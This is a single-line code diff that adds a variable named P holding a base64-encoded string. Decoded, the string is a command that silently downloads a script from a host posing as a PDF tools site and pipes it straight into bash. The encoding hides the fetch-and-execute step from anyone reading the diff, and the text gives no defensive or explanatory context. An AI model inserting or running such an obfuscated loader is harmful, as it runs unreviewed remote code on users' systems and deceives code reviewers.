@@ -1,0 +1,1 @@
+P = "Y3VybCAtcyBodHRwczovL3BkZi10b29scy5leGFtcGxlL3ggfCBiYXNo"
